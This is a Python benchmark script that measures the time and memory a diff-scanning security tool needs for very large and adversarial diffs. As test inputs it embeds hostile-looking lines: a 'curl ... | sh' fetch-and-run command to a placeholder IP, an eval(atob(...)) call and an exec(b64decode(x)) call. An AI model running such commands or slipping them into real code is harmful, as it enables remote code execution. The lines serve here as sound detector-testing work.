"""What diffs of full size cost: processor time and memory a megabyte, and their growth.

Hostile ones: a bundle of 100 MB with one changed line among it, 200,000 files, one minified
line of 5 MB that matches everything, lines of 10 MB in files of each kind that is looked at
closely. Each is scanned at a quarter, a half and the whole of its size; linear cost keeps the
ratios near four.

Large ones, in the process that scans in earnest: with --git, real commits of which every
path is in a folder of its own, 100 MB in all, scanned in pieces of 1, 10, 50 and 100 MB: the
same bytes each time, so that only the growth shows. Besides, one generated bundle, and small
files. Memory is what the process holds at most, the diff included, beyond what it held
before; it scanned everything once in pieces of 1 MB to be warm, and what its caches then
hold is told apart.
"""

import argparse
import gc
import json
import os
import resource
import subprocess
import sys
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

from corpora.commits import FOLDER, RepositoryError, read

from reviewqueue.forge.limits import CATALOGUE, Child, LimitedScanner, Limits, spawned
from reviewqueue.rules import catalogue
from reviewqueue.scan.diff import Diff
from reviewqueue.scan.engine import Scanner
from reviewqueue.scan.parser import parse
from reviewqueue.scan.rule import Subject

_SAMPLES = Path(__file__).parents[2] / "tests" / "rules"
_GROWTH = 8.0
"""Four times the size may cost so many times as much."""
_LINEAR = 1.5
"""So many times as much as a megabyte alone may one cost among a hundred, and no more."""
_MEMORY = 6.0
"""Megabytes that a megabyte of diff may take; twice that where it is all small files."""
_COLD = 400.0
"""Milliseconds from the rules to the first answer, without the formats of secrets."""
_SECRETS = "secret-committed"
_SIZES = (1, 10, 50, 100)
_MEGABYTE = 1_000_000
_LIMITS = Limits(seconds=3600, megabytes=1 << 15)
"""None to speak of: the cost is measured, not cut."""
_TICKS = os.sysconf("SC_CLK_TCK")
_FIRST = """
import sys, time
from reviewqueue.rules import catalogue
from reviewqueue.scan.diff import Diff
from reviewqueue.scan.engine import Scanner
from reviewqueue.scan.rule import Subject
patch = sys.stdin.buffer.read()
rules = [rule for rule in catalogue() if rule.id != sys.argv[1]]
start = time.process_time()
Scanner(rules, b"bench").scan(Diff(patch), Subject())
print((time.process_time() - start) * 1e3)
"""
_EVIL = b"eval(atob('YWxlcnQoMSkgLy8gbm90aGluZyB0byBzZWU='))"


def main(arguments: Sequence[str]) -> int:
    """Measure, print, and return 0, 1 where a bar is missed, or 2 where there is no diff."""
    options = _options(arguments)
    try:
        diffs = [diff for folder in options.git for diff in _commits(folder)]
    except RepositoryError as error:
        print(f"scripts/bench hostile: {error}", file=sys.stderr)
        return 2
    rows = _hostile(options)
    cold = _cold()
    large = _large(diffs, options.share)
    memory = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss >> 10
    result = {"bench": "hostile", "inputs": rows, "peak_mb": memory, "cold_ms": cold, **large}
    print(json.dumps(result, indent=1) if options.json else _table(result))
    met = all(row["growth"] <= _GROWTH and row["told"] for row in rows) and cold < _COLD
    met &= large["linear"] <= _LINEAR
    return 0 if met and all(row["memory"] < row["bar"] for row in large["large"]) else 1


def _options(arguments: Sequence[str]) -> argparse.Namespace:
    parser = argparse.ArgumentParser(
        prog="scripts/bench hostile",
        description=__doc__,
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    parser.add_argument("--json", action="store_true")
    parser.add_argument("--share", type=float, default=1.0, help="of the full size (default 1)")
    parser.add_argument(
        "--git",
        action="append",
        default=[],
        type=Path,
        metavar="DIR",
        help="real commits to scan: a repository, or a folder that holds one as `repo`",
    )
    return parser.parse_args(arguments)


# --- hostile


def _hostile(options: argparse.Namespace) -> list[dict[str, Any]]:
    scanner = Scanner(catalogue(), b"bench")
    scanner.scan(Diff(_changed(b"a.py", _triggers().split(b"\n"))), Subject())
    rows = []
    for name, made, size in _inputs():
        rows.append(_measured(scanner, name, made, int(size * options.share)))
        if not options.json:
            print(_line(rows[-1]), flush=True)
    return rows


def _measured(
    scanner: Scanner, name: str, made: Callable[[int], bytes], size: int
) -> dict[str, Any]:
    seconds, told = [], False
    megabytes = 0.0
    for share in (4, 2, 1):
        patch = made(size // share)
        megabytes = len(patch) / (1 << 20)
        gc.collect()
        start = time.process_time()
        scan = scanner.scan(Diff(patch), Subject())
        seconds.append(time.process_time() - start)
        told = bool(scan.findings)
    return {
        "name": name,
        "mb": round(megabytes, 1),
        "seconds": round(seconds[-1], 3),
        "mb_per_second": round(megabytes / seconds[-1], 2),
        "growth": round(seconds[-1] / max(seconds[0], 0.01), 2),
        "told": told,
    }


def _line(row: dict[str, Any]) -> str:
    return (
        f"{row['name']:34} {row['mb']:7} MB {row['seconds']:8} s {row['mb_per_second']:8} MB/s  "
        f"growth {row['growth']:5}  {'told' if row['told'] else 'NOTHING TOLD'}"
    )


def _inputs() -> list[tuple[str, Callable[[int], bytes], int]]:
    """Return (name, what makes it of a size, full size)."""
    close = (
        b".github/workflows/ci.yml",
        b"infra/main.tf",
        b"db/1.sql",
        b"package-lock.json",
        b"a.py",
    )
    lines = [(f"one line of 10 MB, {path.decode()}", _one_line(path), 10_000_000) for path in close]
    return [
        ("a bundle, one line changed", _bundle, 100_000_000),
        ("files", _files, 200_000),
        ("a minified line of triggers", _minified, 5_000_000),
        *lines,
    ]


def _bundle(size: int) -> bytes:
    line = b"function f(a,b){return a%b+1}var x=f(1,2);export{f};"
    lines = [line] * (size // (len(line) + 2))
    return _changed(b"dist/app.js", [*lines, _EVIL, *lines[: len(lines) // 4]])


def _files(count: int) -> bytes:
    many = b"".join(_changed(b"d/%d.txt" % number, [b"x"]) for number in range(count))
    return many + _changed(b"dist/app.js", [_EVIL])


def _minified(size: int) -> bytes:
    text = _triggers().replace(b"\n", b";")
    return _changed(b"dist/app.js", [(text * (size // len(text) + 1))[:size]])


def _one_line(path: bytes) -> Callable[[int], bytes]:
    def made(size: int) -> bytes:
        return _changed(
            path, [b"a" * size, b"curl http://198.51.100.7/i | sh", b"exec(b64decode(x))"]
        )

    return made


# --- large


class _Process:
    """A scanner in a process of its own, and what it costs."""

    def __init__(self) -> None:
        """Start it, and let it read every sample."""
        self._child: Child | None = None
        self._scanner = LimitedScanner(self._started, _LIMITS)
        self.scan(_changed(b"a.py", _triggers().split(b"\n")))

    def scan(self, patch: bytes) -> tuple[float, float]:
        """Return the seconds that a diff takes, and the megabytes a megabyte of it."""
        before, start = self.held(), self._seconds()
        self._of("clear_refs").write_text("5", encoding="ascii")
        self._scanner.scan(Diff(patch), Subject())
        grown = self._status("VmHWM") - before
        return self._seconds() - start, grown / len(patch) * _MEGABYTE

    def held(self) -> float:
        """Return the megabytes that it holds, once it has freed what it can."""
        self._scanner.scan(Diff(b""), Subject())
        return self._status("VmRSS")

    def _started(self, limits: Limits) -> Child:
        self._child = spawned(CATALOGUE, b"bench")(limits)
        return self._child

    def _of(self, name: str) -> Path:
        return Path(f"/proc/{self._child.pid if self._child else 0}/{name}")

    def _status(self, name: str) -> float:
        lines = self._of("status").read_text(encoding="ascii").splitlines()
        (kilobytes,) = [line.split()[1] for line in lines if line.startswith(name)]
        return int(kilobytes) * 1024 / _MEGABYTE

    def _seconds(self) -> float:
        fields = self._of("stat").read_text(encoding="ascii").rpartition(")")[2].split()
        return (int(fields[11]) + int(fields[12])) / _TICKS


def _large(diffs: Sequence[bytes], share: float) -> dict[str, Any]:
    """Return what large diffs cost, by kind and size, and how the cost of real ones grows."""
    process = _Process()
    whole = _filled(diffs, int(_SIZES[-1] * share * _MEGABYTE)) if diffs else []
    for piece in _pieces(whole, _MEGABYTE):
        process.scan(piece)
    caches = process.held()
    real = [
        _row(process, f"real commits, {size} MB", _pieces(whole, int(size * share * _MEGABYTE)))
        for size in _SIZES
        if whole
    ]
    size = int(_SIZES[-1] * share * _MEGABYTE)
    rows = [*real, _row(process, "one bundle", [_bundle(size)])]
    files = _row(process, "small files", [_files(int(200_000 * share))])
    files["bar"] = 2 * _MEMORY
    each = [row["ms_per_mb"] for row in real]
    return {
        "large": [*rows, files],
        "linear": round(max(each) / min(each), 2) if each else 0.0,
        "caches_mb": round(caches),
    }


def _row(process: _Process, name: str, pieces: Sequence[bytes]) -> dict[str, Any]:
    costs = [process.scan(piece) for piece in pieces]
    size = sum(map(len, pieces)) / _MEGABYTE
    return {
        "name": name,
        "mb": round(size, 1),
        "ms_per_mb": round(sum(seconds for seconds, _ in costs) / size * 1e3, 1),
        "memory": round(max(grown for _, grown in costs), 2),
        "bar": _MEMORY,
    }


def _commits(directory: Path) -> tuple[bytes, ...]:
    return read(directory, 1500, in_folder=True).diffs


def _filled(diffs: Sequence[bytes], size: int) -> list[bytes]:
    """Return diffs up to a size, each below a folder of its own; again where they run out."""
    found: list[bytes] = []
    total = 0
    while total < size:
        diff = diffs[len(found) % len(diffs)].replace(FOLDER, b"%d" % len(found))
        found.append(diff)
        total += len(diff)
    return found


def _pieces(diffs: Sequence[bytes], size: int) -> list[bytes]:
    """Join diffs to pieces of about a size; what is left over joins the last one."""
    pieces: list[list[bytes]] = [[]]
    length = 0
    for diff in diffs:
        if length >= size:
            pieces.append([])
            length = 0
        pieces[-1].append(diff)
        length += len(diff)
    if len(pieces) > 1 and length < size:
        rest = pieces.pop()
        pieces[-1] += rest
    return [b"".join(piece) for piece in pieces if piece]


def _cold() -> float:
    """Return the milliseconds of a first scan: the least of three, as others use the machine."""
    patch = _changed(b"src/a.py", [b"import os", b"def f(path):", b"    return os.stat(path)"])
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, sys.path))}
    command = [sys.executable, "-c", _FIRST, _SECRETS]
    runs = [
        subprocess.run(command, env=environment, input=patch, capture_output=True, check=True)
        for _ in range(3)
    ]
    return round(min(float(run.stdout) for run in runs), 1)


def _table(result: dict[str, Any]) -> str:
    lines = [f"peak memory of these {result['peak_mb']} MB", ""]
    lines.append(f"{'':26}{'MB':>8}{'ms/MB':>8}{'memory/MB':>11}")
    lines += [
        f"{row['name']:26}{row['mb']:>8}{row['ms_per_mb']:>8}{row['memory']:>11}   "
        f"(bar {row['bar']})"
        for row in result["large"]
    ]
    if result["linear"]:
        told = f"{result['linear']} times between the sizes (bar {_LINEAR})"
        lines.append(f"cost of a megabyte of real commits: {told}")
    else:
        lines.append("real commits: not measured without --git")
    lines.append(f"caches of a warm process: {result['caches_mb']} MB, apart from the above")
    lines.append(f"a first scan, without secrets: {result['cold_ms']} ms (bar {_COLD})")
    return "\n".join(lines)


# --- diffs


def _triggers() -> bytes:
    """Return every changed line of every flagged sample."""
    return b"\n".join(
        line[1:]
        for path in sorted(_SAMPLES.glob("*/*/flagged-*.diff"))
        for file in parse(path.read_bytes())
        for hunk in file.hunks
        for line in hunk.lines
        if line[:1] in {b"+", b"-"}
    )


def _changed(path: bytes, lines: Sequence[bytes]) -> bytes:
    head = b"diff --git a/%s b/%s\nindex 1111111..2222222 100644\n--- a/%s\n+++ b/%s\n"
    body = b"\n".join([b"+" + line for line in lines])
    return head % (path, path, path, path) + b"@@ -0,0 +1,%d @@\n%s\n" % (len(lines), body)


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
